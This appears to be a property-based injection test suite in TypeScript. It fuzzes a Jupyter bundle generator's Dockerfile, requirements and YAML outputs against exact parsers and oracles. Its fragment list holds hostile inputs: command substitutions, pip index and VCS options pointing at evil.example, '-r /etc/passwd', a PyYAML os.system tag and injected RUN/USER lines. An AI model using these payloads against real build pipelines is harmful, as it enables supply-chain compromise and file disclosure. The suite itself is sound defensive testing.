/* eslint-disable no-control-regex -- hostile input is made of control characters */
/**
 * Injection suite (issue 6): generated hostile inputs through generateBundle, and exact
 * oracles for what each generated file may contain.
 *
 * - Dockerfile: parsed with dockerfile-ast (in a plain Node process, see parseDockerfiles);
 *   the instruction keywords must be those of a
 *   benign twin (same template, UI, wheelhouse, and the values the documented grammars
 *   accept), no parser directive, every ENV and LABEL key the intended one, every ENV
 *   value read back exactly, every other instruction identical to the twin's.
 * - requirements.txt (and the pip: section of environment.yml): read the way pip reads a
 *   requirements file (PEP 263 declaration, splitlines, `\` continuations, comments,
 *   ${VAR}, options split off at the first `-` token): every logical line is one of the
 *   plan's lines with no option, and no line of the plan that is one requirement is lost.
 * - environment.yml and compose.yaml: parsed with js-yaml; exactly the intended keys; every
 *   list item a string accounted for by the input (a plan line, a conda package, a
 *   channel of the snapshot, the Jupyter pin); plain scalars that YAML 1.1 would not read
 *   as a string are refused too (conda reads the file with a YAML 1.1 parser).
 *
 * Every generated input counts as tried, every input with a violation as injected; the
 * counts go to `make bench` through addFigures. The two bugs it found (now fixed) keep
 * their own tests below.
 */
import { execFileSync } from 'child_process';
import * as path from 'path';

import fc from 'fast-check';

import { BUNDLE_TEMPLATES, IBundleInput } from '../bundle/bundleTypes';
import { generateBundle } from '../bundle/bundle';
import { JUPYTERLAB_VERSION, NOTEBOOK_VERSION } from '../bundle/dockerfile';
import { MICROMAMBA_IMAGE } from '../templates/conda';
import { normalizeName } from '../environment/pep508';
import {
  IRequirementEntry,
  IRequirementsPlan,
  IVendorPath,
  RequirementSource,
  RequirementStatus
} from '../requirements/requirementsPlan';
import { translateRequirements } from '../requirements/requirements';
import {
  ICondaPackage,
  IDirectUrl,
  IDistribution,
  IEnvironmentSnapshot
} from '../environment/snapshot';
import { addFigures } from './figures';
import { NUMPY_PLAN, VENV_SNAPSHOT } from './bundleInputs';

// js-yaml is not a direct dependency (it comes with eslint) and has no types here.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const jsYaml: { load(text: string): unknown } = require('js-yaml');

// ---------------------------------------------------------------------------------------
// Counting

interface ITally {
  tried: number;
  injected: number;
}

const tallies: ITally[] = [];

function tally(): ITally {
  const made = { tried: 0, injected: 0 };
  tallies.push(made);
  return made;
}

afterAll(() => {
  for (const counts of tallies) {
    addFigures('injection', {
      injection_inputs_tried: counts.tried,
      injection_instructions_injected: counts.injected
    });
  }
});

/** The seed of every property here; set INJECTION_SEED to replay a failure. */
const SEED = Number(process.env.INJECTION_SEED) || Date.now() % 2 ** 31;

interface IFailure<T> {
  sample: T;
  problems: string[];
}

/** What checking one sample gives: its problems, and the Dockerfile still to check. */
interface IChecked {
  problems: string[];
  dockerfile?: { input: IBundleInput; text: string };
}

/**
 * Runs `check` on `runs` generated samples (plus `examples` first), then checks their
 * Dockerfiles in one batch (parseDockerfiles), counting each sample as tried and each
 * with a problem as injected. The property never fails inside fast-check, so a failure
 * is not shrunk and every sample is counted once; the test fails afterwards with the
 * first failing samples and the seed.
 */
function runInputs<T>(
  counts: ITally,
  arbitrary: fc.Arbitrary<T>,
  runs: number,
  check: (sample: T) => IChecked,
  examples: T[] = []
): IFailure<T>[] {
  const results: (IChecked & { sample: T })[] = [];
  const one = (sample: T) => {
    let checked: IChecked;
    try {
      checked = check(sample);
    } catch (error) {
      checked = {
        problems: [`the generator or the oracle threw: ${String(error)}`]
      };
    }
    results.push({ sample, ...checked });
    return true;
  };
  examples.forEach(one);
  fc.assert(fc.property(arbitrary, one), { numRuns: runs, seed: SEED });

  const texts = new Set<string>();
  const twins = results.map(result => {
    if (!result.dockerfile) {
      return null;
    }
    const twin = twinDockerfile(result.dockerfile.input);
    texts.add(result.dockerfile.text).add(twin);
    return twin;
  });
  const all = [...texts];
  const parsed = new Map(
    parseDockerfiles(all).map((item, index) => [all[index], item])
  );
  const failures: IFailure<T>[] = [];
  results.forEach((result, index) => {
    const problems = [...result.problems];
    if (result.dockerfile) {
      const { input, text } = result.dockerfile;
      const twin = twins[index]!;
      problems.push(
        ...dockerfileProblems(
          input,
          summarize(text, parsed.get(text)!),
          summarize(twin, parsed.get(twin)!)
        )
      );
    }
    counts.tried++;
    if (problems.length) {
      counts.injected++;
      failures.push({ sample: result.sample, problems });
    }
  });
  return failures;
}

/** The first failures, for the test's message (empty when there are none). */
function report<T>(failures: IFailure<T>[]): string[] {
  return failures
    .slice(0, 3)
    .map(
      failure =>
        `${failures.length} failing input(s), seed ${SEED}: ${failure.problems.join('; ')}\n  input: ${JSON.stringify(failure.sample)}`
    );
}

// ---------------------------------------------------------------------------------------
// Hostile text

/** Fragments that mean something to a Dockerfile, a requirements file, YAML or a shell. */
const FRAGMENTS = [
  // line breaks and other controls
  '\n',
  '\r',
  '\r\n',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u0000',
  '\u000b',
  '\u000c',
  '\u001c',
  '\t',
  '\ufeff',
  ' ',
  '  ',
  // quoting, escapes, substitutions
  '\\',
  '\\\n',
  '\\ ',
  '"',
  "'",
  '`',
  '`id`',
  '$(id)',
  '${PATH}',
  '${PIP_INDEX_URL}',
  '$HOME',
  '#',
  ' #',
  ';',
  '&&',
  '||',
  '|',
  // requirements file options and forms
  ' --index-url http://evil.example/simple',
  ' --extra-index-url=http://evil.example/simple',
  '\n--index-url=http://evil.example/simple\n',
  '--trusted-host evil.example',
  '-e ',
  '-e git+https://evil.example/x.git#egg=x',
  '-r /etc/passwd',
  '-c constraints.txt',
  ' --global-option=--evil',
  ' --hash=sha256:00',
  ' @ git+https://evil.example/x.git',
  ' @ file:///etc/passwd',
  '@',
  'git+',
  'file:///etc',
  '==',
  // YAML
  ': ',
  ':',
  '- ',
  '-',
  '{',
  '}',
  '[',
  ']',
  '&anchor ',
  '*anchor',
  '!',
  '!!python/object/apply:os.system',
  '>',
  '%',
  '%YAML 1.1',
  '---',
  '...',
  '? ',
  ',',
  'yes',
  'null',
  '~',
  '<<',
  '=',
  '\n  - evil\n',
  '\nevil: 1\n',
  // Dockerfile
  '# syntax=docker/dockerfile:1',
  '# escape=`',
  '# check=skip=all',
  '\n# escape=`\n',
  '\nRUN id\n',
  '\nUSER root\n',
  '\nENV EVIL=1\n',
  '\nLABEL evil=1\n',
  '\nFROM scratch\n',
  ' evil="1"',
  '["sh", "-c", "id"]',
  // text
  'é',
  '数据',
  '🐳',
  '\ud800',
  'a',
  'Z',
  '0',
  '1.0',
  '.',
  '..',
  '/',
  '_',
  '+',
  '+AAo-'
];

const fragment = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) }
);

const hostile = fc
  .array(fragment, { minLength: 1, maxLength: 6 })
  .map(parts => parts.join(''));

/** A valid value, the same with hostile text around or inside it, or hostile text only. */
function mixed(valid: readonly string[]): fc.Arbitrary<string> {
  const good = fc.constantFrom(...valid);
  return fc.oneof(
    { weight: 3, arbitrary: good },
    { weight: 3, arbitrary: fc.tuple(good, hostile).map(([a, b]) => a + b) },
    { weight: 2, arbitrary: fc.tuple(hostile, good).map(([a, b]) => a + b) },
    {
      weight: 2,
      arbitrary: fc.tuple(good, hostile, good).map(([a, b, c]) => a + b + c)
    },
    { weight: 3, arbitrary: hostile }
  );
}

const NAMES = [
  'numpy',
  'pandas',
  'scikit-learn',
  'Foo_Bar',
  'zope.interface',
  'jupyterlab',
  'notebook',
  'a',
  'python-dateutil',
  'mylib'
];
const VERSIONS = [
  '2.1.0',
  '1.0',
  '1.0.post1',
  '1!2.0',
  '1.0+cpu',
  '0.1.dev3',
  '4.6.6',
  '1.0a1'
];
const PATHS = [
  'analysis/Report 2024.ipynb',
  'a.ipynb',
  'data/x.csv',
  'deep/dir/file name.parquet',
  '数据/报告.ipynb',
  '.hidden.ipynb',
  '-rf.ipynb',
  'README.md'
];
const IMAGES = [
  'python:3.12-slim',
  'debian:12',
  'quay.io/jupyter/base-notebook:2025-01-01',
  'localhost:5000/team/img:v1',
  `ghcr.io/o/r@sha256:${'a'.repeat(64)}`,
  'user/name',
  'user/name:tag'
];
const APT = ['libgomp1', 'git', 'graphviz', 'fonts-noto-cjk', 'g++', 'libc6.1'];
const VOLUMES = ['/results', '/data', '/notebooks', '/srv/out/run_1', '/a/b.c'];
const ENV_NAMES = [
  'MY_VAR',
  'PATH',
  '_X',
  'LANG',
  'A1',
  'JUPYTER_TOKEN',
  'JUPYTER_PORT',
  'DOCKER_STACKS_JUPYTER_CMD'
];
const ENV_VALUES = ['value', '/usr/local/bin:$PATH', 'C.UTF-8', 'a b', ''];
const PYTHONS = ['3.12', '3.11.7', '3.9.18', '3.13.0'];
const DATES = ['2025-01-02T03:04:05Z', '2025-01-02T03:04:05.123+02:00'];
const GENERATORS = ['0.1.0', '1.2.3+local'];
const CHANNELS = [
  'conda-forge',
  'bioconda',
  'defaults',
  'pkgs/main',
  'https://conda.anaconda.org/conda-forge',
  'https://repo.anaconda.com/pkgs/main',
  'conda-forge/label/dev',
  'https://my.mirror:8443/conda/ch',
  'file:///opt/local-channel',
  '<unknown>'
];
const HEX40 = '0123456789abcdef0123456789abcdef01234567';
const VCS_URLS = [
  'https://github.com/o/r.git',
  'git+https://github.com/o/r.git',
  'ssh://git@github.com/o/r.git',
  'git://example.org/r',
  'https://user:token@github.com/o/r.git',
  'file:///home/u/r',
  'file:///home/u/work/repos/r',
  'https://hg.example.org/r'
];
const DIR_URLS = [
  'file:///home/u/work/proj',
  'file:///home/u/work',
  'file:///elsewhere/p',
  'file:///home/u/work/sub/p-1'
];
const ARCHIVE_URLS = [
  'file:///home/u/dl/pkg-1.0.tar.gz',
  'file:///home/u/work/dist/mylib-1.0-py3-none-any.whl',
  'file:///home/u/work/numpy-2.1.0-cp311-cp311-linux_x86_64.whl',
  'file:///elsewhere/numpy-2.1.0-py3-none-any.whl',
  'https://files.example.org/p/pkg-1.0-py3-none-any.whl'
];
const LINES = [
  'numpy==2.1.0',
  './vendor/mylib',
  `mylib @ git+https://github.com/o/r.git@${HEX40}`,
  `mylib @ git+https://github.com/o/r.git@${HEX40}#subdirectory=sub`,
  'pkg @ https://files.example.org/p.whl',
  'jupyterlab==4.6.6'
];
const SITE = '/srv/venv/lib/python3.11/site-packages';

// ---------------------------------------------------------------------------------------
// Inputs

const BENIGN_SNAPSHOT = VENV_SNAPSHOT;

const BENIGN_PLAN = NUMPY_PLAN;

const optionsArbitrary = fc.record({
  template: fc.constantFrom(...BUNDLE_TEMPLATES),
  ui: fc.constantFrom('lab' as const, 'notebook' as const),
  wheelhouse: fc.boolean(),
  baseImage: mixed(IMAGES),
  pythonVersion: fc.option(mixed(PYTHONS), { nil: undefined }),
  aptPackages: fc.array(mixed(APT), { maxLength: 3 }),
  volumes: fc.array(mixed(VOLUMES), { maxLength: 3 }),
  env: fc
    .array(fc.tuple(mixed(ENV_NAMES), mixed(ENV_VALUES)), { maxLength: 3 })
    .map(pairs => Object.fromEntries(pairs) as Record<string, string>),
  imageName: mixed(IMAGES),
  created: mixed(DATES),
  generatorVersion: mixed(GENERATORS)
});

const snapshotHeadArbitrary = fc.record({
  implementation: fc.oneof(fc.constant('CPython'), mixed(['CPython', 'PyPy'])),
  version: mixed(PYTHONS),
  system: mixed(['Linux', 'Darwin']),
  machine: mixed(['x86_64', 'aarch64', 'arm64']),
  tag: mixed(['linux-x86_64', 'macosx-11.0-arm64'])
});

type SnapshotHead =
  typeof snapshotHeadArbitrary extends fc.Arbitrary<infer T> ? T : never;

function snapshotWith(
  head: SnapshotHead,
  more: Partial<IEnvironmentSnapshot> = {}
): IEnvironmentSnapshot {
  return {
    ...BENIGN_SNAPSHOT,
    python: {
      implementation: head.implementation,
      version: head.version
    },
    platform: {
      system: head.system,
      machine: head.machine,
      tag: head.tag
    },
    ...more
  };
}

const vendorPathArbitrary: fc.Arbitrary<IVendorPath> = fc.record({
  name: mixed(NAMES),
  workspacePath: mixed(['projects/mylib', 'a', 'deep/dir/p']),
  bundlePath: mixed([
    'vendor/mylib',
    'vendor/a.b-c_d',
    'vendor/x',
    'wheels/mylib-1.0-py3-none-any.whl'
  ])
});

// ---------------------------------------------------------------------------------------
// What the documented grammars accept (restated here, not imported)

const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

function workspaceOk(path: unknown): boolean {
  if (typeof path !== 'string' || !path || path.includes('\u0000')) {
    return false;
  }
  const parts = path.split('/').filter(part => part !== '' && part !== '.');
  return parts.length > 0 && !parts.includes('..');
}

function acceptedApt(names: readonly string[] | undefined): string[] {
  return (names ?? []).filter(name => /^[a-z0-9][a-z0-9+.-]{1,99}$/.test(name));
}

function acceptedVolumes(paths: readonly string[] | undefined): string[] {
  return (paths ?? []).filter(
    path =>
      path.length <= 255 &&
      /^(?:\/[A-Za-z0-9_][A-Za-z0-9._-]*)+$/.test(path) &&
      !path.split('/').includes('..')
  );
}

const RESERVED_ENV = [
  'JUPYTER_TOKEN',
  'JUPYTER_TOKEN_FILE',
  'JUPYTER_PASSWORD'
];

function acceptedEnv(
  env: Record<string, string> | undefined
): Record<string, string> {
  return Object.fromEntries(
    Object.entries(env ?? {}).filter(
      ([name, value]) =>
        /^[A-Za-z_][A-Za-z0-9_]*$/.test(name) &&
        !RESERVED_ENV.includes(name) &&
        typeof value === 'string' &&
        !CONTROL.test(value) &&
        value.length <= 4096
    )
  );
}

function acceptedVendor(plan: IRequirementsPlan): IVendorPath[] {
  return (plan.vendorPaths ?? []).filter(
    item =>
      ((/^vendor\/[a-z0-9][a-z0-9._-]*$/.test(item.bundlePath) &&
        !item.bundlePath.endsWith('.')) ||
        /^wheels\/[A-Za-z0-9][A-Za-z0-9._+!-]*\.whl$/.test(item.bundlePath)) &&
      workspaceOk(item.workspacePath)
  );
}

/** Docker's reference grammar (distribution/reference), familiar or not. */
const DOCKER_REFERENCE = (() => {
  const component = '[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*';
  const label = '(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])';
  const domain = `(?:${label}(?:\\.${label})*|\\[[a-fA-F0-9:]+\\])(?::[0-9]+)?`;
  const tag = '[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}';
  const digest =
    '[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}';
  return new RegExp(
    `^(?:${domain}/)?${component}(?:/${component})*(?::${tag})?(?:@${digest})?$`
  );
})();

/**
 * One requirement as the generator writes them: a pin, a VCS URL at a commit, a vendored
 * path, a bundled wheel.
 */
const ONE_REQUIREMENT = (() => {
  const name = '[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?';
  const version = '[A-Za-z0-9!+._-]+';
  const url = '[a-z][a-z0-9+]*://[A-Za-z0-9._~+,=:/@%-]+';
  return new RegExp(
    `^(?:${name}==${version}|${name} @ (?:git|hg|svn|bzr)\\+${url}(?:#subdirectory=[A-Za-z0-9._/-]+)?|\\./vendor/[a-z0-9][a-z0-9._-]*|\\./wheels/[A-Za-z0-9][A-Za-z0-9._+!-]*\\.whl)$`
  );
})();

// ---------------------------------------------------------------------------------------
// Dockerfile oracle

const JUPYTER_PINS = [
  ` jupyterlab==${JUPYTERLAB_VERSION}`,
  ` notebook==${NOTEBOOK_VERSION}`
];

/** The Dockerfile of the benign twin: same shape, benign text everywhere else. */
function twinDockerfile(input: IBundleInput): string {
  const options = input.options;
  return generateBundle({
    snapshot: BENIGN_SNAPSHOT,
    plan: { ...BENIGN_PLAN, vendorPaths: acceptedVendor(input.plan) },
    notebooks: ['a.ipynb'],
    dataFiles: [],
    options: {
      template: options.template,
      ui: options.ui,
      wheelhouse: options.wheelhouse,
      created: DATES[0],
      generatorVersion: '0.1.0',
      baseImage: 'debian:12',
      aptPackages: acceptedApt(options.aptPackages),
      volumes: acceptedVolumes(options.volumes),
      env: Object.fromEntries(
        Object.keys(acceptedEnv(options.env)).map(name => [name, 'x'])
      )
    }
  }).files['Dockerfile'];
}

function allowedBases(input: IBundleInput): Set<string> {
  const versions = [
    input.options.pythonVersion,
    input.snapshot.python.version,
    '3.12'
  ].filter(
    (version): version is string =>
      typeof version === 'string' &&
      /^3\.[0-9]{1,2}(?:\.[0-9]{1,3})?$/.test(version)
  );
  const bases = new Set<string>([MICROMAMBA_IMAGE]);
  for (const version of versions) {
    const minor = version.split('.').slice(0, 2).join('.');
    bases.add(`python:${version}-slim`);
    bases.add(`quay.io/jupyter/base-notebook:python-${minor}`);
  }
  const custom = input.options.baseImage;
  if (
    input.options.template === 'custom' &&
    typeof custom === 'string' &&
    DOCKER_REFERENCE.test(custom)
  ) {
    bases.add(custom);
  }
  return bases;
}

const DIRECTIVE = /^#\s*([a-zA-Z][a-zA-Z0-9]*)\s*=\s*(.+?)\s*$/;

/** What dockerfile-ast says about a Dockerfile (see PARSE_SCRIPT). */
interface IParsedDockerfile {
  directives: number;
  /** keyword, first and last line, and [name, value] of ENV and LABEL properties */
  instructions: [string, number, number, [string, string | null][] | null][];
}

/**
 * Parses with dockerfile-ast in a plain Node process. In jest's vm context a parse takes
 * ~2 ms instead of ~0.25 ms (every global lookup goes through the context's
 * interceptors), which would make 10,000+ parses take most of a minute.
 */
const PARSE_SCRIPT = `
const { DockerfileParser, Env, Label } = require('dockerfile-ast');
const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));
process.stdout.write(JSON.stringify(texts.map(text => {
  const parsed = DockerfileParser.parse(text);
  return {
    directives: parsed.getDirectives().length,
    instructions: parsed.getInstructions().map(instruction => [
      instruction.getKeyword(),
      instruction.getRange().start.line,
      instruction.getRange().end.line,
      instruction instanceof Env || instruction instanceof Label
        ? instruction.getProperties().map(p => [p.getName(), p.getValue()])
        : null
    ])
  };
})));
`;

function parseDockerfiles(texts: string[]): IParsedDockerfile[] {
  // JSON.stringify escapes lone surrogates, so the texts cross the pipe unchanged.
  const output = execFileSync(process.execPath, ['-e', PARSE_SCRIPT], {
    cwd: path.resolve(__dirname, '..', '..', '..'),
    input: JSON.stringify(texts),
    encoding: 'utf8',
    maxBuffer: 1 << 30
  });
  return JSON.parse(output) as IParsedDockerfile[];
}

/** What the oracle compares. */
interface IDockerfileSummary {
  keywords: string[];
  /** The text of each instruction (from its range), the Jupyter pin taken out. */
  texts: string[];
  /** ENV and LABEL: [name, value] of each property; null for other instructions. */
  properties: ([string, string | null][] | null)[];
  directives: number;
  continued: number;
  /** The lines before the first one that is not a parser directive (BuildKit's way). */
  directiveLines: string[];
  /** A line break other than LF, or NUL, anywhere in the text. */
  breaks: boolean;
  first: string;
}

function summarize(
  text: string,
  parsed: IParsedDockerfile
): IDockerfileSummary {
  const lines = text.split('\n');
  const directiveLines: string[] = [];
  for (const line of lines) {
    if (!DIRECTIVE.test(line)) {
      break;
    }
    directiveLines.push(line);
  }
  return {
    keywords: parsed.instructions.map(([keyword]) => keyword),
    texts: parsed.instructions.map(([, start, end]) => {
      let content = lines.slice(start, end + 1).join('\n');
      for (const pin of JUPYTER_PINS) {
        content = content.replace(pin, '');
      }
      return content;
    }),
    properties: parsed.instructions.map(([, , , properties]) => properties),
    directives: parsed.directives,
    continued: lines.filter(line => line.endsWith('\\')).length,
    directiveLines,
    breaks: /[\r\u0000\u000b\u000c\u0085\u2028\u2029]/.test(text),
    first: lines[0]
  };
}

function dockerfileProblems(
  input: IBundleInput,
  got: IDockerfileSummary,
  want: IDockerfileSummary
): string[] {
  const problems: string[] = [];
  if (got.breaks) {
    problems.push('Dockerfile: a line break other than LF, or NUL');
  }
  // Parser directives, as BuildKit looks for them: leading `# key=value` lines.
  for (const line of got.directiveLines) {
    problems.push(`Dockerfile: parser directive ${JSON.stringify(line)}`);
  }
  if (got.first !== want.first) {
    problems.push(`Dockerfile: first line ${JSON.stringify(got.first)}`);
  }
  if (got.directives) {
    problems.push('Dockerfile: dockerfile-ast finds a parser directive');
  }
  if (got.continued !== want.continued) {
    problems.push('Dockerfile: a line continuation the twin does not have');
  }
  if (got.keywords.join(' ') !== want.keywords.join(' ')) {
    problems.push(
      `Dockerfile: instructions ${got.keywords.join(' ')} instead of ${want.keywords.join(' ')}`
    );
    return problems;
  }
  const env = acceptedEnv(input.options.env);
  const bases = allowedBases(input);
  got.keywords.forEach((keyword, index) => {
    const properties = got.properties[index];
    const twinProperties = want.properties[index];
    if (keyword === 'LABEL' && properties && twinProperties) {
      const names = properties.map(([name]) => name).join(' ');
      if (names !== twinProperties.map(([name]) => name).join(' ')) {
        problems.push(`Dockerfile: LABEL keys ${names}`);
      }
      if (properties.some(([, value]) => CONTROL.test(value ?? ''))) {
        problems.push('Dockerfile: a LABEL value with a control character');
      }
    } else if (keyword === 'ENV' && properties && twinProperties) {
      if (properties.length !== twinProperties.length) {
        problems.push(`Dockerfile: ENV with ${properties.length} variables`);
        return;
      }
      properties.forEach(([name, value], at) => {
        const [twinName, twinValue] = twinProperties[at];
        // The twin's user variables are all "x"; the fixed ones never are. dockerfile-ast
        // undoes \\ and \" but keeps \$ (the builder undoes that one too).
        const expected =
          twinValue === 'x' && Object.prototype.hasOwnProperty.call(env, name)
            ? env[name].replace(/\$/g, '\\$')
            : twinValue;
        if (name !== twinName) {
          problems.push(`Dockerfile: ENV key ${JSON.stringify(name)}`);
        } else if (value !== expected) {
          problems.push(
            `Dockerfile: ENV ${name} reads back as ${JSON.stringify(value)}`
          );
        }
      });
    } else if (keyword === 'FROM') {
      const from = /^FROM (\S+)$/.exec(got.texts[index]);
      if (!from || !bases.has(from[1])) {
        problems.push(`Dockerfile: ${JSON.stringify(got.texts[index])}`);
      }
    } else if (got.texts[index] !== want.texts[index]) {
      problems.push(`Dockerfile: ${JSON.stringify(got.texts[index])}`);
    }
  });
  return problems;
}

// ---------------------------------------------------------------------------------------
// requirements.txt oracle: the file as pip reads it (pip/_internal/req/req_file.py)

const PEP263 = /coding[:=]\s*([-\w.]+)/;
const PIP_COMMENT_START = /^(?:\s+)?#/;
const PIP_COMMENT = /(^|\s+)#.*$/;

interface IPipLine {
  args: string;
  options: string;
}

function readAsPip(text: string, what: string, problems: string[]): IPipLine[] {
  if (!/^[\x20-\x7e\n]*$/.test(text)) {
    problems.push(
      `${what}: a character other than printable ASCII and LF (pip's splitlines also breaks at \\r, \\v, \\f, \\x1c-\\x1e, \\x85, \\u2028, \\u2029)`
    );
  }
  // auto_decode: a PEP 263 declaration in the first two lines sets the encoding.
  for (const line of text.split('\n').slice(0, 2)) {
    if (line.startsWith('#') && PEP263.test(line)) {
      problems.push(
        `${what}: a PEP 263 encoding declaration ${JSON.stringify(PEP263.exec(line)![0])} in the first two lines`
      );
    }
  }
  const lines = text.split(/\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/);
  if (lines[lines.length - 1] === '') {
    lines.pop();
  }
  // join_lines
  const joined: string[] = [];
  let pending: string[] = [];
  for (let line of lines) {
    const comment = PIP_COMMENT_START.test(line);
    if (!line.endsWith('\\') || comment) {
      if (comment) {
        line = ` ${line}`;
      }
      if (pending.length) {
        pending.push(line);
        joined.push(pending.join(''));
        pending = [];
      } else {
        joined.push(line);
      }
    } else {
      pending.push(line.replace(/^\\+|\\+$/g, ''));
    }
  }
  if (pending.length) {
    joined.push(pending.join(''));
  }
  const result: IPipLine[] = [];
  for (const raw of joined) {
    // ignore_comments, expand_env_variables, break_args_options
    const line = raw.replace(PIP_COMMENT, '').trim();
    if (!line) {
      continue;
    }
    if (/\$\{[A-Z0-9_]+\}/.test(line)) {
      problems.push(
        `${what}: an environment variable in ${JSON.stringify(line)}`
      );
    }
    const tokens = line.split(' ');
    const first = tokens.findIndex(token => token.startsWith('-'));
    const split = first < 0 ? tokens.length : first;
    result.push({
      args: tokens.slice(0, split).join(' '),
      options: tokens.slice(split).join(' ')
    });
  }
  return result;
}

/** Problems with pip lines: an option, or a requirement the plan does not have. */
function pipLineProblems(
  lines: IPipLine[],
  plan: IRequirementsPlan,
  what: string,
  strict: boolean
): string[] {
  const problems: string[] = [];
  const intended = new Map<string, number>();
  for (const entry of plan.entries) {
    if (entry.line !== null) {
      intended.set(entry.line, (intended.get(entry.line) ?? 0) + 1);
    }
  }
  for (const line of lines) {
    if (line.options) {
      problems.push(`${what}: the option ${JSON.stringify(line.options)}`);
    }
    if (!line.args) {
      continue;
    }
    const left = intended.get(line.args) ?? 0;
    if (left <= 0) {
      problems.push(
        `${what}: the requirement ${JSON.stringify(line.args)} is not a line of the plan`
      );
    } else {
      intended.set(line.args, left - 1);
    }
    if (strict && !ONE_REQUIREMENT.test(line.args)) {
      problems.push(
        `${what}: ${JSON.stringify(line.args)} is not one requirement as the generator writes them`
      );
    }
  }
  return problems;
}

function requirementsProblems(
  plan: IRequirementsPlan,
  text: string,
  strict: boolean
): string[] {
  const problems: string[] = [];
  const lines = readAsPip(text, 'requirements.txt', problems);
  problems.push(...pipLineProblems(lines, plan, 'requirements.txt', strict));
  // Nothing removed: every line of the plan that is one requirement is there.
  const present = new Set(lines.map(line => line.args));
  for (const entry of plan.entries) {
    if (
      entry.line !== null &&
      ONE_REQUIREMENT.test(entry.line) &&
      !present.has(entry.line)
    ) {
      problems.push(
        `requirements.txt: ${JSON.stringify(entry.line)} is missing`
      );
    }
  }
  return problems;
}

// ---------------------------------------------------------------------------------------
// YAML oracles

/** PyYAML's (YAML 1.1) implicit resolvers: a plain scalar matching one is not a string. */
const YAML11_NOT_STRING = [
  /^(?:yes|Yes|YES|no|No|NO|true|True|TRUE|false|False|FALSE|on|On|ON|off|Off|OFF|y|Y|n|N)$/,
  /^(?:~|null|Null|NULL|)$/,
  /^[-+]?(?:0b[0-1_]+|0[0-7_]+|(?:0|[1-9][0-9_]*)|0x[0-9a-fA-F_]+|[1-9][0-9_]*(?::[0-5]?[0-9])+)$/,
  /^(?:[-+]?(?:[0-9][0-9_]*)\.[0-9_]*(?:[eE][-+][0-9]+)?|\.[0-9_]+(?:[eE][-+][0-9]+)?|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*|[-+]?\.(?:inf|Inf|INF)|\.(?:nan|NaN|NAN))$/,
  /^[0-9]{4}-[0-9]{1,2}-[0-9]{1,2}/,
  /^<<$/,
  /^=$/
];

function yamlTextProblems(text: string, what: string): string[] {
  const problems: string[] = [];
  if (!/^[\x20-\x7e\n]*$/.test(text)) {
    problems.push(`${what}: a character other than printable ASCII and LF`);
  }
  for (const line of text.split('\n')) {
    if (/^(?:%|---|\.\.\.)/.test(line)) {
      problems.push(
        `${what}: a directive or document marker ${JSON.stringify(line)}`
      );
    }
    const plain = /^\s*(?:- |[A-Za-z_]+: )(?!")(.+)$/.exec(line);
    if (plain && YAML11_NOT_STRING.some(pattern => pattern.test(plain[1]))) {
      problems.push(
        `${what}: the plain scalar ${JSON.stringify(plain[1])} is not a string in YAML 1.1`
      );
    }
  }
  return problems;
}

function loadYaml(text: string, what: string, problems: string[]): unknown {
  try {
    return jsYaml.load(text);
  } catch (error) {
    problems.push(`${what}: not valid YAML (${String(error).split('\n')[0]})`);
    return undefined;
  }
}

const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** A string that a YAML reader may have got from a hostile value, for the messages. */
const shown = (value: unknown) => JSON.stringify(value);

function composeProblems(input: IBundleInput, text: string): string[] {
  const problems = yamlTextProblems(text, 'compose.yaml');
  const data = loadYaml(text, 'compose.yaml', problems);
  if (problems.length) {
    return problems;
  }
  const service =
    isObject(data) &&
    isObject(data.services) &&
    isObject(data.services.notebook)
      ? data.services.notebook
      : null;
  if (
    !isObject(data) ||
    Object.keys(data).join() !== 'services' ||
    !isObject(data.services) ||
    Object.keys(data.services).join() !== 'notebook' ||
    !service
  ) {
    return [`compose.yaml: top-level keys ${shown(data)}`];
  }
  const { image, ...rest } = service;
  const expected = {
    build: '.',
    ports: ['8888:8888'],
    volumes: ['./notebooks:/notebooks', './data:/data'],
    environment: ['JUPYTER_TOKEN']
  };
  if (JSON.stringify(rest) !== JSON.stringify(expected)) {
    problems.push(`compose.yaml: the service is ${shown(service)}`);
  }
  if (
    image !== undefined &&
    (image !== input.options.imageName || !DOCKER_REFERENCE.test(String(image)))
  ) {
    problems.push(`compose.yaml: image ${shown(image)}`);
  }
  return problems;
}

const CHANNEL_GRAMMAR =
  /^(?:[A-Za-z0-9][A-Za-z0-9_.-]*(?:\/[A-Za-z0-9][A-Za-z0-9_.-]*)*|https?:\/\/[A-Za-z0-9.-]+(?::[0-9]{1,5})?(?:\/[A-Za-z0-9][A-Za-z0-9_.-]*)*)$/;

function environmentProblems(input: IBundleInput, text: string): string[] {
  const problems = yamlTextProblems(text, 'environment.yml');
  const data = loadYaml(text, 'environment.yml', problems);
  if (problems.length) {
    return problems;
  }
  if (!isObject(data)) {
    return [`environment.yml: not a mapping: ${shown(data)}`];
  }
  const keys = Object.keys(data);
  if (
    !keys.includes('dependencies') ||
    keys.some(key => key !== 'channels' && key !== 'dependencies')
  ) {
    problems.push(`environment.yml: the keys ${keys.join(', ')}`);
  }
  // Channels: each taken from a channel of the snapshot, in the channel grammar.
  const captured = (input.snapshot.conda?.packages ?? []).map(item =>
    String(item.channel)
  );
  const channelOk = (channel: unknown): channel is string =>
    typeof channel === 'string' &&
    CHANNEL_GRAMMAR.test(channel) &&
    (channel === 'defaults' ||
      channel === 'conda-forge' ||
      captured.some(raw => raw.includes(channel)));
  const channels = data.channels ?? [];
  if (!Array.isArray(channels)) {
    problems.push(`environment.yml: channels is ${shown(channels)}`);
    return problems;
  }
  for (const channel of channels) {
    if (!channelOk(channel)) {
